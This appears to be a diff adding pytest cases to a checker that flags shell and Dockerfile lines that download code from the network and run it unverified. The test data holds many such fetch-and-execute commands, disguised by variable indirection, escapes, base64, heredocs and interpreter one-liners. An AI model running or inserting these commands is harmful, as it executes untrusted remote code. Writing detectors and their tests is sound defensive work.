@@ -200,3 +200,104 @@ def test_a_check_of_this_very_file(check: str) -> None:
 )
 def test_many_ways_to_one_command_are_walked_once(line: str) -> None:
     assert isinstance(examine(line[:16_300]), Failed | Incomplete | Passed)
+
+
+def of_lines(*lines: str) -> Outcome:
+    return RemoteScript().examine(built_by(*lines))
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        f"S=sh; {FETCH} | $S",
+        "C=curl; $C https://example.com/i.sh | sh",
+        f"{FETCH} | $'\\x73h'",
+        "$'\\x63url' https://example.com/i.sh | sh",
+        "curl${IFS}https://example.com/i.sh|sh",
+        f"f() {{ {FETCH}; }}; f | sh",
+        f"f() {{ sh; }}; {FETCH} | f",
+        "alias g=curl; g https://example.com/i.sh | sh",
+        f"$({FETCH})",
+        f"x=$({FETCH}); $x",
+        f'read -r x < <({FETCH}); eval "$x"',
+        f'{FETCH} | bash -c "$(cat)"',
+        f'bash -c \'eval "$0"\' "$({FETCH})"',
+        f"bash --rcfile <({FETCH}) -i",
+        f"find . -maxdepth 0 -exec sh -c '{FETCH} | sh' \\;",
+        f"trap '{FETCH} | sh' EXIT",
+        f"printf '%s | %s' '{FETCH}' sh | sh",
+        f"echo '{FETCH} | sh' > x; sh x",
+        f"cat > /x <<'E'\n{FETCH} | sh\nE\nchmod +x /x; /x",
+        "curl -fsSLox https://example.com/x; sh ./x",
+        'wget https://example.com/x -O x; eval "$(<x)"',
+        "wget https://example.com/x -O x; sed s/a/b/ x | sh",
+        "wget https://example.com/x.gz -O x.gz; gunzip x.gz; sh x",
+        "wget -O /usr/local/bin/tool https://example.com/tool; chmod +x /usr/local/bin/tool; tool init",
+        "aws s3 cp https://example.com/i.sh i.sh; sh i.sh",
+        "lynx -source https://example.com/i.sh | sh",
+        "some-client https://example.com/i.sh | sh",
+        "deno run https://example.com/i.ts",
+        f"{FETCH} | make -f -",
+        f"{FETCH} | flock /tmp/l sh",
+        """python3 -c 'import urllib.request as u; exec(u.urlopen("https://example.com/i").read())'""",
+        """perl -MLWP::Simple -e 'eval get "https://example.com/i"'""",
+        """awk 'BEGIN { system("curl https://example.com/i | sh") }'""",
+        """php -r "copy('https://example.com/i', 'i.php');" && php i.php""",
+    ],
+)
+def test_code_from_the_network_by_another_name(script: str) -> None:
+    outcome = examine(script)
+    assert isinstance(outcome, Failed)
+    assert any("https://example.com/" in one.message or "run" in one.message for one in outcome.evidence)
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        f"{FETCH} | ${{SHELL:-/bin/sh}}",
+        f"{FETCH} | some-wrapper --x sh",
+        "some-client fetch i.sh | sh",
+        'eval "$INSTALL"',
+        'sh -c "${INSTALL}"',
+        'echo "$INSTALL" | sh',
+        'eval "$(echo Y3VybA== | base64 -d)"',
+        "bash <(echo Y3VybA== | base64 -d)",
+        "echo Y3VybA== | base64 -d | cat | sh",
+        """python3 -c 'import requests; exec(requests.get(place).text)'""",
+    ],
+)
+def test_code_of_which_nobody_can_tell_whence_it_is_unknown(script: str) -> None:
+    outcome = examine(script)
+    assert isinstance(outcome, Incomplete)
+    assert outcome.reason == "history_not_understood"
+
+
+def test_what_one_line_saves_another_runs() -> None:
+    run = "RUN /bin/sh -c {} # buildkit".format
+    assert isinstance(of_lines(run(f"{FETCH} -o /tmp/i.sh"), run("sh /tmp/i.sh")), Failed)
+    assert isinstance(of_lines("ADD https://example.com/i.sh /tmp/ # buildkit", run("sh /tmp/i.sh")), Failed)
+    assert isinstance(of_lines(run(f"echo '{FETCH} | sh' > /x"), run("/x")), Failed)
+    verified = run("echo 'abc  /tmp/i.sh' | sha256sum -c")
+    assert isinstance(of_lines(run(f"{FETCH} -o /tmp/i.sh"), verified, run("sh /tmp/i.sh")), Passed)
+    checked = f"ADD --checksum=sha256:{'0' * 64} https://example.com/i.sh /tmp/ # buildkit"
+    assert isinstance(of_lines(checked, run("sh /tmp/i.sh")), Passed)
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        'eval "$(dpkg-architecture -s)"; . /etc/profile; "$PYTHON" -m pip install x',
+        "find . -type f -exec ldd '{}' ';' | awk '{ print $1 }' | sort -u | xargs -rt dpkg-query --search",
+        "yes | sh ./install.sh",
+        """php -r "copy('https://example.com/i', 'i.php');" """
+        """&& php -r "if (hash_file('sha384', 'i.php') !== 'abc') { exit(1); }" && php i.php""",
+        "python3 -c \"import urllib.request; urllib.request.urlretrieve('https://example.com/d', 'd')\"",
+        "wget -O /usr/local/bin/gosu https://example.com/gosu; "
+        "wget -O /usr/local/bin/gosu.asc https://example.com/g.asc; "
+        "gpg --batch --verify /usr/local/bin/gosu.asc /usr/local/bin/gosu; gosu --version",
+        'cat > /entry.sh <<E\n#!/bin/sh\nexec "$@"\nE\nchmod +x /entry.sh; /entry.sh true',
+        'VERSION=$(curl -s https://example.com/version); pip install "x==$VERSION"',
+    ],
+)
+def test_what_official_images_do_is_no_find(script: str) -> None:
+    assert isinstance(examine(script), Passed)
